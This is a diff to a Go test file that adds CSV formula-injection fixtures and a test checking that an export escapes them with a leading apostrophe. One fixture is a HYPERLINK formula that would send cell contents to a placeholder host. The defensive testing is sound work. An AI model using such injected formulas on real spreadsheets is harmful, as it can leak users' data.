@@ -266,8 +266,12 @@ func TestAwkwardText(t *testing.T) {
 				Aliases:     []string{"=SUM(A1)", "Мемориал", `back\slash`},
 				Description: "line one\nline two\n\ttabbed, \"quoted\", <b>bold</b>; done"},
 			{ID: "person/b", Kind: rightsgraph.KindPerson, Name: "Ünïcödé 人"},
+			{ID: "person/c", Kind: rightsgraph.KindPerson, Name: `=HYPERLINK("http://x.example/?"&A1)`,
+				Aliases: []string{"Alpha; Beta", "+1", "-1", "@x", "\tTab", "'quoted", "''twice"}, Description: "@SUM(A1:A9)"},
 		},
 		Edges: []*rightsgraph.Relation{
+			{ID: "person/c|MEMBER_OF|organisation/a", Type: rightsgraph.RelMemberOf, From: "person/c", To: "organisation/a", Role: "=1+1",
+				Evidence: []rightsgraph.Evidence{{Report: "report/r", Quote: "-x", Start: 0, End: 2}}},
 			{ID: "person/b|MEMBER_OF|organisation/a", Type: rightsgraph.RelMemberOf, From: "person/b", To: "organisation/a",
 				Evidence: []rightsgraph.Evidence{
 					{Report: "report/r", Quote: "she said: \"join <us>\" &\r\nstay", Start: 3, End: 30},
@@ -283,6 +287,28 @@ func TestAwkwardText(t *testing.T) {
 			}
 			checkGraph(t, got, want(t, sub))
 		})
+	}
+}
+
+// TestCSVFormulas checks that no cell of the CSV files starts what a
+// spreadsheet would run as a formula, and that aliases are a JSON array
+// (TestAwkwardText reads them back).
+func TestCSVFormulas(t *testing.T) {
+	sub := &rightsgraph.Subgraph{
+		Nodes: []*rightsgraph.Entity{{ID: "person/c", Kind: rightsgraph.KindPerson, Name: "=1+1",
+			Aliases: []string{"Alpha; Beta", "@x", "\rReturn"}, Description: "-2"}},
+	}
+	var nodes, edges bytes.Buffer
+	if err := export.CSV(t.Context(), &nodes, &edges, sub); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&nodes).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"person/c", "'=1+1", "PERSON", `["Alpha; Beta","@x","\rReturn"]`, "'-2"}
+	if len(rows) != 2 || !slices.Equal(rows[1], want) {
+		t.Errorf("nodes.csv rows %q, want %q", rows, want)
 	}
 }
 
@@ -697,7 +723,7 @@ func readCSV(b []byte, header ...string) ([]map[string]string, error) {
 	for _, row := range rows[1:] {
 		m := map[string]string{}
 		for i, h := range header {
-			m[h] = row[i]
+			m[h] = strings.TrimPrefix(row[i], "'") // a cell that could be a formula starts with '
 		}
 		out = append(out, m)
 	}
@@ -719,9 +745,9 @@ func readCSVZip(b []byte) (*graph, error) {
 	}
 	g := &graph{}
 	for _, n := range nodes {
-		aliases := []string{}
-		if n["aliases"] != "" {
-			aliases = strings.Split(n["aliases"], "; ")
+		var aliases []string
+		if err := json.Unmarshal([]byte(n["aliases"]), &aliases); err != nil {
+			return nil, fmt.Errorf("node %s: aliases: %w", n["Id"], err)
 		}
 		g.Nodes = append(g.Nodes, node{ID: n["Id"], Kind: n["kind"], Name: n["Label"], Aliases: aliases, Description: n["description"]})
 	}
